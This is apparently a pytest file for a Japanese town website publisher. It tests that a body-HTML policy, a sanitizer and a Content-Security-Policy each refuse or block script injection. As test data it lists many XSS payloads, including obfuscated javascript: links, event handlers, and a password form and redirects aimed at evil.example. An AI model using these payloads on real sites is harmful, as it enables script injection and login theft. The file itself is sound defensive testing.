"""The body HTML policy: refused in the source with its line, cleaned from the rendered page, and
blocked by the page's Content-Security-Policy if it got into a page anyway (a real browser)."""

from __future__ import annotations

import pytest
from browser import chromium, serve
from conftest import mkdocs_build, write_project

from publisher.content.html_policy import allowed_url, problems
from publisher.site.csp import with_policy
from publisher.site.sanitize import clean_body

ALLOWED_BODIES = [
    "本文です。[町のサイト](https://town.example/)、[電話](tel:0274-74-0100)、[メール](mailto:a@town.example)",
    "[ごみの出し方](../kurashi/gomi.md) ![ごみ集積所](../images/photo.png){ width=300 }",
    "<ruby>甘楽<rt>かんら</rt></ruby>町",
    '<table><tr><th colspan="2" scope="col">表</th></tr><tr><td rowspan="2" style="text-align: right;">1</td></tr></table>',
    '<div class="note" markdown="1">\n**注意** {: #chui .strong }\n</div>',
    "<https://town.example/autolink>",
    "`<script>alert(1)</script>` はコードとして表示されます",
    "<!-- <script>alert(1)</script> 職員向けのメモ -->",
    "<details open><summary>詳しく</summary>中身</details>",
]

REFUSED_BODIES = {
    "<script>alert(1)</script>": "<script> は本文に書けません",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>": "<script> は本文に書けません",
    "<svg onload=alert(1)>": "<svg> は本文に書けません",
    '<img src="x.png" alt="x" onerror="alert(1)">': "<img> の onerror 属性は使えません",
    '<a href="JaVaScRiPt:alert(1)">x</a>': "「JaVaScRiPt:alert(1)」というアドレスは使えません",
    '<a href=" java\tscript:alert(1)">x</a>': "というアドレスは使えません",
    '<a href="&#106;avascript:alert(1)">x</a>': "「javascript:alert(1)」というアドレスは使えません",
    "[x](vbscript:msgbox(1))": "「vbscript:msgbox(1)」というアドレスは使えません",
    "[x]: javascript:alert(2)\n\n[link][x]": "「javascript:alert(2)」というアドレスは使えません",
    '<form action="https://evil.example/"><input name="pw"></form>': "<form> は本文に書けません",
    '<object data="x.swf"></object>': "<object> は本文に書けません",
    '<p style="background:url(https://evil.example/)">x</p>': "<p> の style 属性は使えません",
    '<td style="position:fixed">x</td>': "<td> の style は text-align だけ使えます",
    "<base href=https://evil.example/>": "<base> は本文に書けません",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "<meta> は本文に書けません",
    "```\n<script>alert(1)</script>\n```": "<script> は本文に書けません",  # no fenced-code extension here
    "[x](y){: onclick=alert(1) }": "「{ }」の中の onclick は使えません",
}


@pytest.mark.parametrize("body", ALLOWED_BODIES)
def test_what_our_markdown_and_the_importer_write_is_allowed(body):
    assert problems(body) == []


@pytest.mark.parametrize("body", sorted(REFUSED_BODIES))
def test_script_vectors_are_refused_in_the_source(body):
    found = problems(body)
    assert found, body
    assert any(REFUSED_BODIES[body] in p.message for p in found), [p.message for p in found]


def test_each_refusal_points_at_its_own_line():
    body = "一行目\n\n<script>x</script>\n\n[a](javascript:x)\n"
    assert [body.count("\n", 0, p.offset) + 1 for p in problems(body)] == [3, 5]


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://town.example/", True),
        ("../news/", True),
        ("#top", True),
        ("tel:0274740100", True),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("\x01javascript:alert(1)", False),
        ("file:///etc/passwd", False),
    ],
)
def test_url_schemes(url, allowed):
    assert allowed_url(url) is allowed


def test_the_rendered_body_is_cleaned_with_the_same_list():
    dirty = (
        '<p onclick="x()">本文<script>alert(1)</script><a href="jav&#x61;script:alert(1)">a</a>'
        '<img src="data:image/png;base64,AA" alt="図" onerror="x()"></p>'
        '<table><thead><tr><th style="text-align: left; color: red">見出し</th></tr></thead></table>'
        '<ruby>甘楽<rt>かんら</rt></ruby><iframe src="https://evil.example/"></iframe>'
    )
    clean = clean_body(dirty)
    for gone in ("onclick", "<script", "alert", "javascript", "data:", "onerror", "color", "<iframe"):
        assert gone not in clean, clean
    for kept in ("本文", '<img alt="図">', 'style="text-align:left"', "<ruby>甘楽<rt>かんら</rt></ruby>"):
        assert kept in clean, clean


def test_the_policy_trusts_the_theme_scripts_and_not_the_body():
    body = "<p>本文</p><script>steal()</script>"
    page = f"<html><head><script>theme()</script></head><body>{body}</body></html>"
    meta = with_policy(page, body).split("<head>")[1].split(">")[0]
    theme, stolen = (
        with_policy("<head><script>theme()</script></head>", ""),
        with_policy("<head><script>steal()</script></head>", ""),
    )
    theme_hash = theme.split("'sha256-")[1].split("'")[0]
    steal_hash = stolen.split("'sha256-")[1].split("'")[0]
    assert theme_hash in meta and steal_hash not in meta
    assert "'unsafe-inline'" not in meta.split("style-src")[0]


CLEAN_PAGE = """---
title: 防災訓練のお知らせ
date: 2026-04-01
categories: [kurashi]
---
町内全域で防災訓練を行います。
"""


@pytest.mark.slow  # a real build and a real browser
def test_a_script_forced_into_a_page_is_blocked_by_the_policy(tmp_path):
    project = write_project(
        tmp_path, {"index.md": "---\ntitle: ホーム\n---\nようこそ\n", "news/2026/kunren.md": CLEAN_PAGE}
    )
    built = mkdocs_build(project)
    assert built.returncode == 0, built.output
    page_file = project / "site/news/2026/kunren/index.html"
    text = page_file.read_text(encoding="utf-8")
    # Put script into the built page as if every check had been bypassed.
    text = text.replace(
        "町内全域で防災訓練を行います。",
        "町内全域で防災訓練を行います。<script>window.stolen = 'inline'</script>"
        '<button id="planted" onclick="window.stolen = \'handler\'">押す</button>'
        '<a id="jslink" href="javascript:window.stolen=\'link\'">リンク</a>',
    )
    page_file.write_text(text, encoding="utf-8")
    with serve(project / "site") as url, chromium() as browser:
        page = browser.new_page()
        refused: list[str] = []
        page.on("console", lambda message: refused.append(message.text))
        page.goto(url + "news/2026/kunren/")
        page.click("#planted")
        page.click("#jslink")
        page.wait_for_timeout(200)
        assert page.evaluate("window.stolen") is None
        assert page.evaluate("typeof __md_scope") == "object"  # the theme's own inline script ran
        assert sum("Content Security Policy" in line for line in refused) >= 3, refused
        page.close()
